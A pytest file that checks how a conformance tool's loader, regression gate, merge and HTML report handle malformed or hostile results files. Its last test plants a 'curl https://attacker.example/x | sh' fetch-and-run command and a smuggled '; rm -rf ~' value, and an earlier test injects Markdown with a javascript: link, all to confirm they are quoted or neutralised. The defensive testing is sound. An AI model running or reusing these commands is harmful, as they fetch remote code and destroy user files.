"""Odd and hostile results files, as every reader meets them: the loader (store.load_results /
load_many), the gate and merge. A file is either loaded (it is valid: downstream copes) or named
and left out with what is wrong; the gate never says 1 (regression) or prints a traceback for a
file it cannot read. Also: incomplete baselines, the gate's Markdown fence, and NaN/inf values."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from conformance.entry_points.cli import main
from conformance.core.compare import Mismatch, assert_output_close, format_values
from conformance.core.dtypes import Tolerance
from conformance.results.gate import markdown
from conformance.results.store import FORMAT, SCHEMA_VERSION, ResultsError, load_many, load_results
from conformance.judging.verdict import format_side_by_side, side_by_side
from conformance_runs import REPO, SMALL_SPEC, by_case, load, run_inprocess

NONFINITE = "tests/candidates/nonfinite.py"


# ------------------------------------------------------------------ documents

def minimal_run(**fields) -> dict:
    """Only the run fields the schema requires."""
    return {"id": "r1", "status": "complete", "started": "2026-01-01T00:00:00+00:00", "torch": "2.13.0",
            "python": "3.11", "machine": {"fingerprint": "f"}, "records_expected": None, **fields}


def record(case: str, outcome: str = "passed", **fields) -> dict:
    """Only the record fields the schema requires."""
    return {"nodeid": f"specs/x.yaml::{case}[coo-cpu-float32]", "kind": "case", "spec": "specs/x.yaml",
            "case": case, "op": "coalesce", "backend": "coo", "device": "cpu", "dtype": "float32",
            "outcome": outcome, **fields}


def document(records: list[dict], **run_fields) -> dict:
    return {"format": FORMAT, "schema_version": SCHEMA_VERSION, "run": minimal_run(**run_fields), "records": records}


def write(tmp_path: Path, name: str, content) -> Path:
    path = tmp_path / name
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


def good(tmp_path: Path, name: str = "good.json", n: int = 3, **run_fields) -> Path:
    return write(tmp_path, name, document([record(f"c{i}") for i in range(n)], records_expected=n, **run_fields))


def gate(capsys, *args: str) -> tuple[int, str]:
    code = main(["gate", *args])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


# the probes of issue 22 (point 6): each is refused by name, by every reader
def _timed(**timing) -> dict:
    return document([record("b", kind="benchmark", timing={"samples": [0.1, 0.2], **timing})])


BAD = {
    "bare-nan": ("NaN", "a bare NaN"),
    "nan-in-a-field": (json.dumps(document([record("c", seconds=0.5)])).replace("0.5", "NaN"), "a bare NaN"),
    "deep-nesting": ("[" * 200_000 + "]" * 200_000, "nested too deeply"),
    "impl-int": (document([], options={"conformance_impl": 3}), "run/options/conformance_impl"),
    "impl-list-of-ints": (document([], options={"conformance_impl": [1, 2]}), "run/options/conformance_impl/0"),
    "negative-median": (_timed(median=-1.0), "records/0/timing/median"),
    "median-1e600": (json.dumps(_timed(median=0.5)).replace("0.5", "1e600"), "1e600 is out of range"),
    "sample-1e600": (json.dumps(_timed()).replace("0.2", "1e600"), "1e600 is out of range"),
    "negative-seconds": (document([record("c", seconds=-2)]), "records/0/seconds"),
    "values-of-the-wrong-type": (document([record("c", values={"x": {"got": {"a": 1}}})]), "records/0/values/x/got"),
}


# ------------------------------------------------------------------ the loader

def test_a_file_with_only_the_required_fields_loads_and_every_reader_copes(tmp_path, capsys):
    bare = write(tmp_path, "bare.json", document([record("c0")]))
    results = load_results(bare)
    assert results.records[0]["case"] == "c0" and results.cases == {}
    # the gate compares it (as baseline and as candidate) without a traceback
    code, out = gate(capsys, "--baseline", str(bare), "--candidate", str(bare))
    assert code == 0 and "RESULT: PASS" in out, out
    code, out = gate(capsys, "--baseline", str(good(tmp_path)), "--candidate", str(bare))
    assert code == 2 and "missing from the candidate" in out, out
    # merge names it as not a shard
    assert main(["merge", str(bare), "-o", str(tmp_path / "m.json")]) == 2
    assert f"{bare}: not a shard" in capsys.readouterr().err


def test_shards_with_only_the_required_fields_merge_into_a_valid_file(tmp_path, capsys):
    shards = [write(tmp_path, f"s{k}.json", document([record(f"c{k}")], id=f"r{k}",
                                                      options={"conformance_shard": f"{k}/2"})) for k in (1, 2)]
    merged = tmp_path / "merged.json"
    assert main(["merge", *map(str, shards), "-o", str(merged)]) == 0, capsys.readouterr().err
    assert [r["case"] for r in load_results(merged).records] == ["c1", "c2"]
    code, out = gate(capsys, "--baseline", str(merged), "--candidate", str(merged))
    assert code == 0 and f"baseline:  {merged} (torch 2.13.0, complete)" in out, out


@pytest.mark.parametrize("name", sorted(BAD))
def test_a_bad_file_is_named_with_its_problem(tmp_path, name):
    content, phrase = BAD[name]
    bad = write(tmp_path, f"{name}.json", content)
    with pytest.raises(ResultsError) as error:
        load_results(bad)
    assert error.value.path == str(bad) and phrase in error.value.message, error.value.message
    # beside a good file: the good one is loaded, the bad one named and left out
    loaded, problems = load_many([good(tmp_path), bad])
    assert [r.path.name for r in loaded] == ["good.json"]
    assert [p.path for p in problems] == [str(bad)] and phrase in problems[0].message


@pytest.mark.parametrize("name", sorted(BAD))
def test_the_gate_cannot_compare_a_bad_file(tmp_path, capsys, name):
    bad = write(tmp_path, f"{name}.json", BAD[name][0])
    fine = str(good(tmp_path))
    for base, head in ((str(bad), fine), (fine, str(bad))):
        code, out = gate(capsys, "--baseline", base, "--candidate", head)
        assert code == 2, out
        assert f"cannot compare: {bad}: " in out and BAD[name][1] in out, out


@pytest.mark.parametrize("name", ["deep-nesting", "impl-list-of-ints", "median-1e600"])
def test_merge_refuses_a_bad_file(tmp_path, capsys, name):
    bad = write(tmp_path, f"{name}.json", BAD[name][0])
    assert main(["merge", str(bad), str(good(tmp_path)), "-o", str(tmp_path / "merged.json")]) == 2
    err = capsys.readouterr().err
    assert f"{bad}: " in err and BAD[name][1] in err, err


@pytest.mark.slow
def test_the_gate_cli_on_deep_nesting_is_one_line_and_exit_2(tmp_path):
    """In a fresh interpreter, as CI runs it: exit 2, no traceback."""
    bad = write(tmp_path, "deep.json", BAD["deep-nesting"][0])
    proc = subprocess.run([sys.executable, "-m", "conformance", "gate", "--baseline", str(bad),
                           "--candidate", str(good(tmp_path))], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "nested too deeply" in proc.stderr


# ------------------------------------------------------------------ incomplete baselines

def _interrupted_baseline(tmp_path: Path) -> Path:
    """Interrupted after 3 of 49 items."""
    return write(tmp_path, "base.json", document(
        [record(f"c{i}") for i in range(3)], status="interrupted", records_expected=49,
        not_run=[f"specs/x.yaml::c{i}[coo-cpu-float32]" for i in range(3, 49)]))


def _failing_candidate(tmp_path: Path) -> Path:
    records = [record(f"c{i}") for i in range(49)]
    records[1] = record("c1", "failed", message="values differ from the golden values")
    return write(tmp_path, "head.json", document(records, records_expected=49))


def test_an_interrupted_baseline_cannot_be_compared(tmp_path, capsys):
    base, head = _interrupted_baseline(tmp_path), _failing_candidate(tmp_path)
    code, out = gate(capsys, "--baseline", str(base), "--candidate", str(head))
    assert code == 2, out
    assert f"CANNOT COMPARE: the baseline {base} is interrupted, not complete (3 of 49 items recorded" in out
    assert "RESULT: NOT COMPARABLE (incomplete baseline)" in out and "RESULT: PASS" not in out


def test_allow_incomplete_baseline_compares_and_says_so(tmp_path, capsys):
    base, head = _interrupted_baseline(tmp_path), _failing_candidate(tmp_path)
    summary = tmp_path / "summary.md"
    code, out = gate(capsys, "--baseline", str(base), "--candidate", str(head), "--allow-incomplete-baseline",
                     "--markdown", str(summary))
    assert code == 1, out  # the regression among the 3 it has
    expected = "RESULT: FAIL (1 regressed item(s); against an incomplete baseline (--allow-incomplete-baseline))"
    assert expected in out and expected in summary.read_text()
    assert "compared anyway (--allow-incomplete-baseline)" in summary.read_text()


@pytest.mark.parametrize("status, records", [("running", 0), ("complete", 0)])
def test_an_empty_or_running_baseline_cannot_be_compared(tmp_path, capsys, status, records):
    base = write(tmp_path, "base.json", document([], status=status))
    head = good(tmp_path, "head.json")
    code, out = gate(capsys, "--baseline", str(base), "--candidate", str(head))
    assert code == 2 and "CANNOT COMPARE" in out, out
    assert ("is running, not complete (0 items recorded)" if status == "running" else "is empty") in out
    code, out = gate(capsys, "--baseline", str(base), "--candidate", str(head), "--allow-incomplete-baseline")
    assert code == 0 and "RESULT: PASS (nothing regressed; against an incomplete baseline" in out, out


# ------------------------------------------------------------------ the Markdown fence

def _fenced_blocks(text: str) -> list[tuple[str, list[str]]]:
    """CommonMark's backtick fences, enough for this: (opening fence, lines inside) per block."""
    blocks, fence, inside = [], None, []
    for line in text.splitlines():
        match = re.match(r" {0,3}(`{3,})([^`]*)$", line)
        if fence is None and match:
            fence, inside = match.group(1), []
        elif fence is not None and re.fullmatch(r" {0,3}" + fence + r"`*\s*", line):
            blocks.append((fence, inside))
            fence = None
        elif fence is not None:
            inside.append(line)
    assert fence is None, "a fence left open"
    return blocks


def test_markdown_keeps_results_text_inside_its_fence(tmp_path, capsys):
    hostile = "```\n# Injected heading\n````\n[click](javascript:alert(1))"
    base = write(tmp_path, "base.json", document([record("c0"), record("c1")], label="```"))
    head_records = [record("c0", "failed", message="````"), record("c1", "failed", message="x " + hostile)]
    head = write(tmp_path, "head.json", document(head_records, label="````\n# label"))
    summary = tmp_path / "summary.md"
    code, out = gate(capsys, "--baseline", str(base), "--candidate", str(head), "--markdown", str(summary))
    assert code == 1, out
    blocks = _fenced_blocks(summary.read_text())
    assert len(blocks) == 1
    fence, inside = blocks[0]
    assert len(fence) == 5  # longer than the longest backtick run (4)
    assert "\n".join(inside) == out.strip()  # all of the summary, nothing of it outside the fence


@pytest.mark.parametrize("text, fence", [("plain", "```"), ("a ``` b", "````"), ("````", "`````"),
                                         ("`` x ```` y ```", "`````"), ("```\n# h\n````\n  ```", "`````")])
def test_the_fence_is_longer_than_any_backtick_run(text, fence):
    assert _fenced_blocks(markdown(text)) == [(fence, text.splitlines())]


# ------------------------------------------------------------------ NaN and inf

def test_a_one_sided_nan_makes_the_max_errors_nan():
    with pytest.raises(Mismatch) as raised:
        assert_output_close("param", np.array([np.nan, 1.0]), np.array([1.0, 1.0]), Tolerance(0, 1e-6), "golden")
    assert np.isnan(raised.value.max_abs_error) and np.isnan(raised.value.max_rel_error)
    assert "max abs error NaN, max rel error NaN, first at index (0,)" in str(raised.value)
    with pytest.raises(Mismatch) as raised:  # inf against a number is inf, NaN against NaN no error
        assert_output_close("p", np.array([np.nan, np.inf]), np.array([np.nan, 1.0]), Tolerance(0, 1e-6), "golden")
    assert raised.value.max_abs_error == np.inf and "max abs error inf, max rel error inf, first at index (1,)" \
        in str(raised.value)


def test_values_are_shown_as_nan_and_inf():
    assert format_values([[float("nan"), "NaN"], [float("inf"), "Infinity", "-Infinity", "-inf"], [1.5, 2, None]]) == \
        "[[NaN, NaN], [inf, inf, -inf, -inf], [1.5, 2, -]]"


def test_readers_accept_inf_strings_and_an_older_files_null(tmp_path):
    values = {"out": {"expected": [1.5, "NaN"], "torch": [1.5, None], "got": ["inf", "-inf"]}}
    path = write(tmp_path, "older.json", document([record("c", values=values)]))
    assert load_results(path).records[0]["values"] == values


def test_side_by_side_shows_nan_and_inf():
    table = side_by_side({"x": np.array([1.0, 2.0, 3.0])}, None, {"x": np.array([np.nan, np.inf, -np.inf])})
    assert format_side_by_side(table).splitlines() == [
        "  x:", "    expected [1.0, 2.0, 3.0]", "    torch    -", "    got      [NaN, inf, -inf]"]


def test_nan_and_inf_are_written_as_strings_and_shown_as_nan_and_inf(capfd):
    code, path = run_inprocess("nonfinite", str(SMALL_SPEC), "--conformance-impl", f"adagrad={NONFINITE}:NonFiniteAdagrad",
                               "-k", "misbehave-here", "-rf")
    console = capfd.readouterr().out
    assert code == 1, console
    text = path.read_text()
    row = by_case(load(path))["misbehave-here[candidate-cpu-float64]"]
    got = row["values"]["param"]["got"]
    assert got[:4] == ["NaN", "Infinity", "-Infinity", 0.0] and None not in got
    assert re.search(r'"got": \[\s*"NaN",\s*"Infinity",\s*"-Infinity",', text)
    assert row["max_abs_error"] == "NaN" and '"max_abs_error": "NaN"' in text
    assert row["torch_max_abs_error"] == "NaN"  # torch's -1 against the candidate's NaN
    for shown in ("max abs error NaN", "got      [[NaN, inf, -inf], [0.0", "got      [NaN, inf, -inf, 0.0"):
        assert shown in row["message"] and shown in console, console
    assert "None" not in row["message"].split("max abs error")[1].split("\n")[0]
    loaded = load_results(path)  # the strings are valid against the schema, for every reader
    assert loaded.records[0]["values"]["param"]["got"][0] == "NaN"


# ------------------------------------------------------------------ strict inputs (issue 30, point 5)

def _shard_doc(k: int, records: list[dict], args: list[str] | None = None, **run_fields) -> dict:
    options = {"conformance_shard": f"{k}/2", "args": args or ["specs", "--conformance-shard", f"{k}/2"],
               "rootdir": "/w"}
    return document(records, id=f"r{k}", options=options, **run_fields)


def test_a_key_given_twice_is_refused_by_every_reader(tmp_path, capsys):
    text = json.dumps(document([record("c", outcome="failed")])).replace(
        '"outcome": "failed"', '"outcome": "failed", "outcome": "passed"')
    path = write(tmp_path, "twice.json", text)
    with pytest.raises(ResultsError, match="the key 'outcome' appears twice in one object"):
        load_results(path)
    code, out = gate(capsys, "--baseline", str(good(tmp_path)), "--candidate", str(path))
    assert code == 2 and "appears twice" in out and "RESULT: PASS" not in out, out
    assert main(["report", str(path), "-o", str(tmp_path / "r.html")]) == 1
    assert "appears twice" in capsys.readouterr().err


def test_merge_compares_the_shards_path_arguments(tmp_path, capsys):
    one = write(tmp_path, "s1.json", _shard_doc(1, [record("c1")]))
    other = write(tmp_path, "s2.json", _shard_doc(2, [record("c2")], args=["other_specs", "--conformance-shard", "2/2"]))
    assert main(["merge", str(one), str(other), "-o", str(tmp_path / "m.json")]) == 2
    err = capsys.readouterr().err
    assert "not shards of one run: the command line, path arguments included, differs" in err, err
    assert "'other_specs'" in err and not (tmp_path / "m.json").exists()
    # where each shard wrote its results, its workers, and an absolute path on another runner are no difference
    same = write(tmp_path, "s2b.json", _shard_doc(2, [record("c2")], args=[
        "/home/runner/work/x/specs", "-n", "4", "--conformance-results", "reports/s2.json", "--conformance-shard=2/2"]))
    assert main(["merge", str(one), str(same), "-o", str(tmp_path / "m.json")]) == 0, capsys.readouterr().err


@pytest.mark.parametrize("fields", [{"records_expected": 3}, {"exit_status": 0}], ids=["fewer-than-expected", "none"])
def test_a_complete_shard_without_its_records_does_not_merge_as_complete(tmp_path, capsys, fields):
    one = write(tmp_path, "s1.json", _shard_doc(1, [record("c1")]))
    records = [record("c2")] if "records_expected" in fields else []
    empty = write(tmp_path, "s2.json", _shard_doc(2, records, **fields))
    merged = tmp_path / "m.json"
    assert main(["merge", str(one), str(empty), "-o", str(merged)]) == 0
    err = capsys.readouterr().err
    assert f"{empty}: shard 2/2 says it is complete but has" in err, err
    assert load_results(merged).run["status"] == "interrupted"
    # an empty shard that collected nothing (pytest's exit status 5) is complete
    nothing = write(tmp_path, "s2c.json", _shard_doc(2, [], exit_status=5))
    assert main(["merge", str(one), str(nothing), "-o", str(merged)]) == 0
    assert load_results(merged).run["status"] == "complete"


def test_the_gate_refuses_duplicate_records(tmp_path, capsys):
    twice = write(tmp_path, "twice.json", document([record("c0", outcome="failed"), record("c0"), record("c1")]))
    code, out = gate(capsys, "--baseline", str(good(tmp_path, n=2)), "--candidate", str(twice))
    assert code == 2 and "1 item(s) recorded more than once (specs/x.yaml::c0[coo-cpu-float32])" in out, out
    assert "RESULT: NOT COMPARABLE (duplicate records)" in out


@pytest.mark.parametrize("option, value", [("--ratio", "nan"), ("--ratio", "inf"), ("--alpha", "nan"),
                                           ("--alpha", "2"), ("--min-duration", "-inf"), ("--ratio", "-0.5")])
def test_the_gate_refuses_non_finite_and_out_of_range_numbers(tmp_path, capsys, option, value):
    results = str(good(tmp_path))
    with pytest.raises(SystemExit) as raised:
        main(["gate", "--baseline", results, "--candidate", results, f"{option}={value}"])
    assert raised.value.code == 2
    assert f"argument {option}: expected a finite number" in capsys.readouterr().err


def test_the_reports_rerun_command_is_rebuilt_from_the_records_fields(tmp_path):
    from conformance.results.report import repro_command

    hostile = record("c", outcome="failed", backend="candidate",
                     rerun="python -m conformance replay x; curl https://attacker.example/x | sh")
    run = {"options": {"conformance_impl": ["coalesce=m.py:f; rm -rf ~"]}}
    command = repro_command(hostile, run)
    assert "attacker" not in command
    assert command == ("python -m conformance replay 'specs/x.yaml::c[coo-cpu-float32]' "
                       "--impl 'coalesce=m.py:f; rm -rf ~'")  # quoted: one argument, never a second command
    path = write(tmp_path, "hostile.json", document([hostile], options=run["options"]))
    out = tmp_path / "r.html"
    assert main(["report", str(path), "-o", str(out)]) == 0
    assert "attacker.example" not in out.read_text(encoding="utf-8")
